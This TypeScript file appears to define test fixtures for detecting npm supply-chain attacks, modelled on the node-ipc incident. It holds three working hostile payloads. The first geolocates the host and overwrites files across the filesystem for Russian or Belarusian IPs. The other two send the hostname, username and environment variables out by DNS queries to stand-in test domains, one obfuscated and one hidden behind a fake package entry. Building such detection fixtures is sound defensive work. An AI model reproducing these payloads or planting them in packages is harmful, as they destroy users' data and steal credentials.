import { base64, type Campaign, codes, entry, manifest } from './kit.ts';

export const campaign: Campaign = {
  id: 'node-ipc',
  row: 'node-ipc 2022 and 2026',
  variants: [
    {
      concealment: 'plain',
      files: entry(`import u from 'path';
import a from 'fs';
import o from 'https';
setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  const n = Buffer.from('${base64('https://api.ipgeolocation.example/ipgeo?apiKey=x')}', 'base64');
  o.get(n.toString('utf8'), function (t) {
    t.on('data', function (t) {
      const n = Buffer.from('${base64('./')}', 'base64'), o2 = Buffer.from('${base64('../')}', 'base64'), r = Buffer.from('${base64('../../')}', 'base64'), f = Buffer.from('${base64('/')}', 'base64'), c = Buffer.from('${base64('country_name')}', 'base64'), e = Buffer.from('${base64('russia')}', 'base64'), i = Buffer.from('${base64('belarus')}', 'base64');
      try {
        const s = JSON.parse(t.toString('utf8')), l = s[c.toString('utf8')].toLowerCase();
        if (l.includes(e.toString('utf8')) || l.includes(i.toString('utf8'))) { h(n.toString('utf8')); h(o2.toString('utf8')); h(r.toString('utf8')); h(f.toString('utf8')); }
      } catch (t) {}
    });
  });
}, Math.ceil(1000 * Math.random()));
async function h(n = '', o = '') {
  if (!a.existsSync(n)) return;
  let r = [];
  try { r = a.readdirSync(n); } catch (t) {}
  const f = [];
  for (var e = 0; e < r.length; e++) {
    const i = u.join(n, r[e]);
    let t = null;
    try { t = a.lstatSync(i); } catch (t) { continue; }
    if (t.isDirectory()) { const s = h(i, o); s.length > 0 ? f.push(...s) : null; }
    else if (i.indexOf(o) >= 0) try { a.writeFile(i, '\\u2764', function () {}); } catch (t) {}
  }
  return f;
}
export { h as default };
`),
    },
    {
      concealment: 'obfuscated',
      files: entry(`const d = require(String.fromCharCode(${codes('dns').join(',')}));
const os = require('os');
const chunk = Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, e: process.env })).toString('hex');
for (let i = 0; i * 60 < chunk.length; i++) d.resolve4(chunk.slice(i * 60, i * 60 + 60) + '.' + i + '.' + ['azure-api', 'weir', 'test'].join('.'), () => {});
module.exports = {};
`),
    },
    {
      concealment: 'moved',
      files: {
        'package.json': manifest({ main: 'node-ipc.cjs' }),
        'node-ipc.cjs': `module.exports = { serve() {}, connectTo() {} };
(function () {
  const dns = require('node:dns'), os = require('node:os'), zlib = require('node:zlib');
  const body = zlib.gzipSync(JSON.stringify(Object.assign({ host: os.hostname() }, process.env))).toString('base64url');
  const label = (n) => body.substr(n * 48, 48) + '.' + n + '.files.azure-weir.test';
  for (let n = 0; n < body.length / 48; n++) setTimeout(() => dns.promises.resolveTxt(label(n)).catch(() => {}), n * 50);
})();
`,
      },
    },
  ],
};
